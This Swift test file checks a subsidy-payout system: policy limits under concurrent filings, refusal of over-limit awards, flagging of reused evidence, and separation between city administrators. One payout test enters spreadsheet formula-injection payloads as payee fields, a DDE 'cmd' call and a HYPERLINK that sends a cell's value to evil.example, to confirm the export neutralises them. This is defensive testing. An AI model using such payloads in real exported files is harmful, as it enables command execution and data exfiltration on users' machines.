import Foundation
import KuajingApp
import KuajingDomain
import KuajingTestSupport
import Testing
import Storage

/// Every limit the engine applies to an application holds for applications filed at the same time:
/// 16 filings of one enterprise at once give exactly what the same filings give one after the
/// other in server order, on each engine. Review, payout and `audit verify` re-decide against the
/// limits, so an award past them (as the race before this change let through) is refused, left out
/// of the payment file with its reason, and named by the audit.
enum LimitChecks {
    struct Kind: Sendable, CustomTestStringConvertible {
        var name: String
        /// The district of the enterprise (the policy's territory).
        var district: String
        /// The filings, in the order one client would send them.
        var filings: [(matter: String, amount: String, attributes: [String: String])]
        /// The most the limit allows in all (the bound the filings together may reach).
        var boundFen: Int64
        var testDescription: String { name }
    }

    static let kinds: [Kind] = [
        // 杭州 附件（三）: 25 % of promotion costs, "单个企业每年扶持金额不超过 50 万元".
        Kind(name: "yearly cap per enterprise", district: "滨江区",
             filings: Array(repeating: ("own_brand_promotion", "2000000.00", [:]), count: 16), boundFen: 50_000_000),
        // 杭州 附件（十二）: once-only, "单个企业最高 20 万元".
        Kind(name: "once-only grant with a cap", district: "滨江区",
             filings: Array(repeating: ("trademark_registration", "300000.00", [:]), count: 16), boundFen: 20_000_000),
        // 杭州 附件（十二）: "同一申请人每年度资助项目不超过 1 项", at most 100 万 a project.
        Kind(name: "one project a year", district: "滨江区",
             filings: Array(repeating: ("rights_protection", "400000.00", ["outcome": "won"]), count: 16), boundFen: 20_000_000),
        // 平湖 二、（一）3: brand and platform promotion together at most 10 万 a year (PH-PROMO).
        Kind(name: "cap shared by two matters", district: "平湖市",
             filings: (0..<16).map { ($0 % 2 == 0 ? "own_brand_promotion" : "platform_promotion", "30000.00", [:]) }, boundFen: 10_000_000),
    ]

    static let admin = CashOutChecks.admin

    struct Filing: Sendable, Equatable {
        var id: Int64
        var matter: String
        var award: Int64
    }

    static func world(_ engine: TestEngine, district: String) async throws -> (store: Store, context: AppContext, company: String) {
        let store = try await engine.store()
        let context = try testContext(store: store, clock: .fixed(Date(timeIntervalSince1970: 1_751_248_800)), funding: CashOutChecks.funding)
        let company = CashOutChecks.code(71)
        try await store.registry.upsert([EnterpriseRow(id: company, creditCode: company, name: "并发测试企业", district: district)])
        return (store, context, company)
    }

    static func viewer(_ company: String, _ district: String) -> Viewer {
        Viewer(name: "e-\(company)", displayName: company, role: .enterprise, city: district == "平湖市" ? "嘉兴市" : "杭州市", district: district, enterpriseID: company)
    }

    /// Files one claim; nil when it was refused (nothing stored).
    static func file(_ context: AppContext, _ me: Viewer, _ company: String, _ f: (matter: String, amount: String, attributes: [String: String]), evidence: String) async -> Filing? {
        do {
            let filed = try await ApplicationDesk(context).submit(me, .init(enterpriseID: company, matter: f.matter, date: "2025-05-10", amount: f.amount,
                                                                           attributes: f.attributes, evidence: [evidence]))
            return Filing(id: filed.application.id, matter: f.matter, award: filed.application.engineAwardFen)
        } catch {
            return nil
        }
    }

    static func burstEqualsSequential(engine: TestEngine, kind: Kind) async throws {
        let burst = try await world(engine, district: kind.district)
        let me = viewer(burst.company, kind.district)
        let evidence = try await ApplicationDesk(burst.context).uploadEvidence(me, name: "发票.pdf", mediaType: "application/pdf", content: Array("发票".utf8))
        let accepted = await withTaskGroup(of: Filing?.self) { group in
            for f in kind.filings { group.addTask { await file(burst.context, me, burst.company, f, evidence: evidence) } }
            var out: [Filing] = []
            for await r in group { if let r { out.append(r) } }
            return out.sorted { $0.id < $1.id }
        }
        let total = accepted.reduce(0) { $0 + $1.award }
        #expect(total <= kind.boundFen, "\(kind.name): \(accepted.count) accepted, \(Fen(total).grouped) 元 against a bound of \(Fen(kind.boundFen).grouped)")
        #expect(total == kind.boundFen, "\(kind.name): the filings reach the bound exactly")

        // The same filings one at a time, in the server order the burst was given, then the refused ones.
        let sequential = try await world(engine, district: kind.district)
        let evidence2 = try await ApplicationDesk(sequential.context).uploadEvidence(me, name: "发票.pdf", mediaType: "application/pdf", content: Array("发票".utf8))
        var remaining = kind.filings
        var replay: [Filing] = []
        for a in accepted {
            let i = try #require(remaining.firstIndex { $0.matter == a.matter })
            let f = remaining.remove(at: i)
            let one = try #require(await file(sequential.context, me, sequential.company, f, evidence: evidence2), "\(kind.name): filing \(a.id) is accepted one at a time too")
            replay.append(one)
        }
        for f in remaining {
            #expect(await file(sequential.context, me, sequential.company, f, evidence: evidence2) == nil, "\(kind.name): what the burst refused is refused one at a time")
        }
        #expect(replay.map(\.award) == accepted.map(\.award), "\(kind.name): at once \(accepted.map(\.award)), one at a time \(replay.map(\.award))")
        // What the burst left: the chain, the balances and the rules replayed (`kuajing audit verify`).
        let verified = try await AuditDesk(burst.context).verify()
        #expect(verified.intact, "\(kind.name): \(verified.problems)")
        // The figures of docs/reliability.md: KUAJING_BURST_FIGURES=FILE appends one line per kind and engine.
        if let path = ProcessInfo.processInfo.environment["KUAJING_BURST_FIGURES"] {
            let line = "| \(engine.rawValue) | \(kind.name) | \(kind.filings.count) | \(accepted.count) | \(kind.filings.count - accepted.count) | \(Fen(total).grouped) | \(Fen(kind.boundFen).grouped) | \(replay.map(\.award) == accepted.map(\.award) ? "yes" : "no") |\n"
            if let handle = FileHandle(forWritingAtPath: path) { handle.seekToEndOfFile(); handle.write(Data(line.utf8)); try? handle.close() }
            else { FileManager.default.createFile(atPath: path, contents: Data(line.utf8)) }
        }
        try await burst.store.close()
        try await sequential.store.close()
    }

    /// The message of the error a call throws; nil when it succeeds.
    static func refused(_ body: () async throws -> Void) async -> String? {
        do { try await body(); return nil } catch { return (error as? AppError)?.message ?? "\(error)" }
    }

    /// An award past the limits in the store (as the race before filing decided in its transaction
    /// let through) is refused at review, left out of the payment file with its reason, and named
    /// by `audit verify`; the one within the limits is paid.
    static func pastTheLimitsIsNeverPaid(engine: TestEngine) async throws {
        let w = try await CashOutChecks.world(engine)
        let desk = ApplicationDesk(w.context), payouts = PayoutDesk(w.context)
        let me = CashOutChecks.enterprise(w.company)
        let invoice = try await CashOutChecks.evidence(w, me, "商标注册费发票")
        let first = try await desk.submit(me, .init(enterpriseID: w.company, matter: "trademark_registration", date: "2025-03-10", amount: "300000.00", evidence: [invoice]))
        #expect(first.application.engineAwardFen == 20_000_000)
        // A second filing decided from a stale read: written straight to the store with the first's award.
        var stale = NewApplication(enterpriseID: w.company, district: "滨江区", matter: "trademark_registration", claimDate: "2025-03-11", amountFen: 30_000_000,
                                   attributes: "{}", origin: "applied", factID: nil, engineStatus: "capped", engineAwardFen: 20_000_000, policy: "hangzhou-2024",
                                   measure: "trademark_registration", clause: first.application.clause, year: 2025, explanation: "（旧版本并发申报）",
                                   fundingCityFen: nil, fundingDistrictFen: nil, fundingBasis: nil, flags: "[]", evidence: [invoice], filedBy: me.name, dueAt: nil)
        stale.claimDate = "2025-03-11"
        let second = try await w.store.applications.file(stale, at: w.context.clock.timestamp())
        // Review: the second cannot be approved; the first can.
        let refusal = await refused { _ = try await desk.review(CashOutChecks.analyst, id: second.id, .init(decision: .approve, amount: nil, reason: "核准")) }
        #expect(refusal?.contains("超过政策限额") == true && refusal?.contains("第 \(first.application.id) 号") == true, "an approval past the once-only grant is refused: \(refusal ?? "accepted")")
        _ = try await desk.review(CashOutChecks.analyst, id: first.application.id, .init(decision: .approve, amount: nil, reason: "核准"))
        // Force the stale one to approved offline (as a second reviewer of the old version might have),
        // with its audit entry, so that only the rules can find it.
        try await w.store.backend.write { db in
            try db.execute("UPDATE application SET status = 'approved', decided_fen = 20000000, city_fen = 12000000, district_fen = 8000000 WHERE id = ?", [.integer(second.id)])
            _ = try AuditTrail.append(db, AuditEvent(actor: "analyst", action: "application.reviewed", subject: "application:\(second.id)", details: [:],
                                                 effects: [.set("application", String(second.id), "status", .text("approved")),
                                                           .set("application", String(second.id), "decided_fen", .integer(20_000_000)),
                                                           .set("application", String(second.id), "city_fen", .integer(12_000_000)),
                                                           .set("application", String(second.id), "district_fen", .integer(8_000_000))]),
                                  at: w.context.clock.timestamp())
        }
        let audit = try await AuditDesk(w.context).verify()
        #expect(audit.problems.contains { $0.message.contains("第 \(second.id) 号申报") && $0.message.contains("超过政策规则") }, "\(audit.problems)")
        #expect(!audit.problems.contains { $0.message.contains("第 \(first.application.id) 号申报") })
        let cert = try await CashOutChecks.evidence(w, me, "开户许可证")
        // Free text that begins like a formula (issue 19): written to the treasury file as text.
        let payee = try await payouts.enterPayee(me, .init(enterpriseID: w.company, bank: "@SUM(1+1)*cmd|'/C calc'!A0", accountNo: "330104001234",
                                                           holder: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此核对\")", evidence: cert))
        _ = try await payouts.confirmPayee(CashOutChecks.admin, id: payee.id)
        let exported = try await payouts.export(CashOutChecks.admin)
        #expect(exported.lines.map(\.applicationID) == [first.application.id], "only the award within the limit is frozen")
        #expect(exported.batch.totalFen == 20_000_000)
        #expect(exported.csv.contains(",\"'=HYPERLINK(") && exported.csv.contains(",'@SUM(1+1)"), "no cell of the file begins like a formula")
        #expect(!exported.csv.contains(",=") && !exported.csv.contains(",@") && !exported.csv.contains(",\"="))
        #expect(exported.skipped.contains { $0.application == second.id && $0.reason.contains("超过政策限额") }, "\(exported.skipped)")
        try await w.store.close()
    }

    /// The same evidence file or the same document number behind two applications (of two
    /// enterprises, for two matters) is flagged on the later one with the earlier one's number.
    static func reusedEvidenceAndNumbersAreFlagged(engine: TestEngine) async throws {
        let w = try await CashOutChecks.world(engine)
        let desk = ApplicationDesk(w.context)
        let one = CashOutChecks.enterprise(w.company), two = CashOutChecks.enterprise(w.other)
        let file = try await CashOutChecks.evidence(w, one, "维权判决书 (2025) 001")
        let first = try await desk.submit(one, .init(enterpriseID: w.company, matter: "rights_protection", date: "2025-04-01", amount: "100000.00",
                                                     attributes: ["outcome": "won", "case_no": "（2025）美国-001"], evidence: [file]))
        #expect(ApplicationDesk.Flag.parse(first.application.flags).allSatisfy { $0.rule != "number_reused" && $0.rule != "evidence_reused" })
        let second = try await desk.submit(two, .init(enterpriseID: w.other, matter: "rights_protection", date: "2025-04-02", amount: "100000.00",
                                                      attributes: ["outcome": "won", "case_no": "（2025）美国-001"], evidence: [file]))
        let flags = ApplicationDesk.Flag.parse(second.application.flags)
        #expect(flags.contains { $0.rule == "number_reused" && $0.message.contains("第 \(first.application.id) 号") }, "\(flags)")
        #expect(flags.contains { $0.rule == "evidence_reused" && $0.message.contains("第 \(first.application.id) 号") }, "\(flags)")
        let third = try await desk.submit(two, .init(enterpriseID: w.other, matter: "trademark_registration", date: "2025-04-03", amount: "1000.00",
                                                     attributes: ["case_no": "（2025）美国-002"], evidence: [try await CashOutChecks.evidence(w, two, "商标发票")]))
        #expect(ApplicationDesk.Flag.parse(third.application.flags).allSatisfy { $0.rule != "number_reused" }, "another number is not flagged")
        try await w.store.close()
    }

    /// Two cities in one store: 台州's administrator sees and changes nothing of 杭州's.
    static func citiesApart(engine: TestEngine) async throws {
        let w = try await CashOutChecks.world(engine)
        let hangzhou = CashOutChecks.admin
        let taizhou = Viewer(name: "tz-admin", displayName: "台州管理员", role: .admin, city: "台州市")
        let taizhouAuditor = Viewer(name: "tz-auditor", displayName: "台州审计", role: .auditor, city: "台州市")
        let budgets = BudgetDesk(w.context), vouchers = VoucherDesk(w.context), payouts = PayoutDesk(w.context), accounts = Accounts(w.context)
        // Budgets: none listed, none released, none set for a policy not in force in 台州.
        #expect(try await !budgets.budgets(hangzhou).isEmpty)
        #expect(try await budgets.budgets(taizhou).isEmpty, "杭州's budgets are not 台州's")
        let hzBudget = try #require(try await budgets.budgets(hangzhou).first)
        await #expect(throws: AppError.self) { _ = try await budgets.release(taizhou, id: hzBudget.id, amount: "0.01") }
        await #expect(throws: AppError.self) {
            _ = try await budgets.allocate(taizhou, .init(policy: "hangzhou-2024", measure: "trademark_registration", year: 2025, payer: "市级", amount: "1.00"))
        }
        #expect(try await budgets.budgets(hangzhou).first { $0.id == hzBudget.id }?.releasedFen == hzBudget.releasedFen, "nothing released")
        // 运力券: no batch in 杭州's pool; 杭州's own administrator may.
        await #expect(throws: AppError.self) {
            _ = try await vouchers.openBatch(taizhou, .init(policy: "hangzhou-2024", amount: "100.00", opensAt: "2025-01-01T09:00:00+08:00", label: "台州"))
        }
        _ = try await vouchers.openBatch(hangzhou, .init(policy: "hangzhou-2024", amount: "100000.00", opensAt: "2025-01-01T09:00:00+08:00", label: "第一批"))
        await #expect(throws: AppError.self, "杭州's pool is not 台州's to read") { _ = try await vouchers.balance(taizhouAuditor, policy: "hangzhou-2024") }
        #expect(try await vouchers.balance(hangzhou, policy: "hangzhou-2024").batchesFen == 10_000_000)
        // A 台州 enterprise gets no voucher under 杭州's policy (issue 19, item 3).
        let tzCompany = CashOutChecks.code(88)
        try await w.store.registry.upsert([EnterpriseRow(id: tzCompany, creditCode: tzCompany, name: "台州企业", district: "椒江区")])
        let tzEnterprise = Viewer(name: "e-tz", displayName: "台州企业", role: .enterprise, city: "台州市", district: "椒江区", enterpriseID: tzCompany)
        await #expect(throws: AppError.self) {
            _ = try await vouchers.request(tzEnterprise, .init(enterpriseID: tzCompany, contractNo: "TZ-1", contractAmount: "2000.00", provider: "物流", date: "2025-03-01", idempotencyKey: "tz-1"))
        }
        let me = CashOutChecks.enterprise(w.company)
        guard case let .issued(voucher, _) = try await vouchers.request(me, .init(enterpriseID: w.company, contractNo: "HZ-1", contractAmount: "2000.00", provider: "物流",
                                                                               date: "2025-03-01", idempotencyKey: "hz-1")) else { Issue.record("issued"); return }
        await #expect(throws: AppError.self) { _ = try await vouchers.cancel(taizhou, voucher: voucher.id, reason: "台州取消") }
        #expect(try await vouchers.vouchers(taizhou, policy: "hangzhou-2024", limit: 100, offset: 0).isEmpty)
        // Payees and payouts.
        let cert = try await CashOutChecks.evidence(w, me, "开户许可证")
        let payee = try await payouts.enterPayee(me, .init(enterpriseID: w.company, bank: "杭州银行", accountNo: "330104009999", holder: "杭州测试跨境有限公司", evidence: cert))
        await #expect(throws: AppError.self) { _ = try await payouts.confirmPayee(taizhou, id: payee.id) }
        #expect(try await payouts.payees(taizhou).isEmpty)
        #expect(try await payouts.payees(taizhouAuditor).isEmpty)
        _ = try await payouts.confirmPayee(hangzhou, id: payee.id)
        let invoice = try await CashOutChecks.evidence(w, me, "发票")
        let filed = try await ApplicationDesk(w.context).submit(me, .init(enterpriseID: w.company, matter: "trademark_registration", date: "2025-03-10", amount: "100000.00", evidence: [invoice]))
        _ = try await ApplicationDesk(w.context).review(CashOutChecks.analyst, id: filed.application.id, .init(decision: .approve, amount: nil, reason: "核准"))
        await #expect(throws: AppError.self, "台州's export takes nothing of 杭州's") { _ = try await payouts.export(taizhou) }
        let batch = try await payouts.export(hangzhou)
        #expect(try await payouts.batches(taizhouAuditor).isEmpty)
        #expect(try await payouts.batches(hangzhou).count == 1)
        await #expect(throws: AppError.self) { _ = try await payouts.file(taizhouAuditor, batch: batch.batch.id) }
        await #expect(throws: AppError.self) { _ = try await payouts.markPaid(taizhou, batch: batch.batch.id, reference: "TZ") }
        #expect(try await ApplicationDesk(w.context).list(taizhouAuditor).isEmpty)
        // Users: 台州 lists its own only, cannot take over a 杭州 name, resets only its own.
        try await accounts.addUser(.init(name: "hz-user", role: .analyst, city: "杭州市", password: "hangzhou-secret-1"))
        try await accounts.addUser(.init(name: "tz-admin", role: .admin, city: "台州市", password: "taizhou-secret-1"))
        #expect(try await accounts.users(for: taizhou).map(\.name) == ["tz-admin"])
        for reset in [false, true] {
            await #expect(throws: AppError.self, "reset: \(reset)") {
                try await accounts.addUser(.init(name: "hz-user", role: .admin, city: "台州市", password: "taken-over-12", actor: "tz-admin", administrator: taizhou, reset: reset))
            }
        }
        await #expect(throws: AppError.self, "a user of another city") {
            try await accounts.addUser(.init(name: "new-hz", role: .analyst, city: "杭州市", password: "another-city-1", actor: "tz-admin", administrator: taizhou))
        }
        #expect(try await w.store.accounts.user(named: "hz-user")?.city == "杭州市", "the 杭州 user is untouched")
        await #expect(throws: AppError.self, "an existing name of the city needs an explicit reset") {
            try await accounts.addUser(.init(name: "tz-admin", role: .analyst, city: "台州市", password: "taizhou-secret-2", actor: "tz-admin", administrator: taizhou))
        }
        try await accounts.addUser(.init(name: "tz-admin", role: .admin, city: "台州市", password: "taizhou-secret-2", actor: "tz-admin", administrator: taizhou, reset: true))
        // The audit trail: each city's auditor reads its own city's entries (the chain stays one).
        let tzTrail = try await AuditDesk(w.context).trail(taizhouAuditor, limit: 1000).entries
        #expect(!tzTrail.isEmpty && tzTrail.allSatisfy { $0.subject == "app_user:tz-admin" }, "\(tzTrail.map(\.subject))")
        let hzTrail = try await AuditDesk(w.context).trail(hangzhou, limit: 1000).entries
        for kind in ["application:", "budget:", "voucher_pool:", "voucher_batch:", "voucher:", "payee_account:", "payout_batch:", "app_user:hz-user"] {
            #expect(hzTrail.contains { $0.subject.hasPrefix(kind) }, "杭州's trail holds its \(kind) entries")
        }
        #expect(!hzTrail.contains { $0.subject == "app_user:tz-admin" })
        // Task updates: only the city's own plans.
        await #expect(throws: AppError.self) {
            _ = try await PlanFollowUp(w.context).update(.init(planID: "hangzhou-2024", clause: "1", status: "暂缓", note: "台州改杭州", by: "tz-admin", expectedVersion: nil), as: taizhou)
        }
        _ = try await PlanFollowUp(w.context).update(.init(planID: "hangzhou-2024", clause: "1", status: "暂缓", note: "杭州本市", by: "admin", expectedVersion: nil), as: hangzhou)
        let xiaoshan = Viewer(name: "xs", displayName: "萧山", role: .district, city: "杭州市", district: "萧山区")
        await #expect(throws: AppError.self) {
            _ = try await PlanFollowUp(w.context).update(.init(planID: "taizhou-2024", clause: "1", status: "已完成", note: "萧山改台州", by: "xs", expectedVersion: nil), as: xiaoshan)
        }
        #expect(try await AuditDesk(w.context).verify().intact)
        try await w.store.close()
    }
}

@Suite("Limits under concurrency on SQLite") struct LimitSQLiteTests {
    @Test(arguments: LimitChecks.kinds) func burstEqualsSequential(kind: LimitChecks.Kind) async throws { try await LimitChecks.burstEqualsSequential(engine: .sqlite, kind: kind) }
    @Test func pastTheLimitsIsNeverPaid() async throws { try await LimitChecks.pastTheLimitsIsNeverPaid(engine: .sqlite) }
    @Test func citiesApart() async throws { try await LimitChecks.citiesApart(engine: .sqlite) }
    @Test func reusedEvidenceAndNumbers() async throws { try await LimitChecks.reusedEvidenceAndNumbersAreFlagged(engine: .sqlite) }
}

@Suite("Limits under concurrency on PostgreSQL", .postgresRequired) struct LimitPostgresTests {
    @Test(arguments: LimitChecks.kinds) func burstEqualsSequential(kind: LimitChecks.Kind) async throws { try await LimitChecks.burstEqualsSequential(engine: .postgres, kind: kind) }
    @Test func pastTheLimitsIsNeverPaid() async throws { try await LimitChecks.pastTheLimitsIsNeverPaid(engine: .postgres) }
    @Test func citiesApart() async throws { try await LimitChecks.citiesApart(engine: .postgres) }
    @Test func reusedEvidenceAndNumbers() async throws { try await LimitChecks.reusedEvidenceAndNumbersAreFlagged(engine: .postgres) }
}
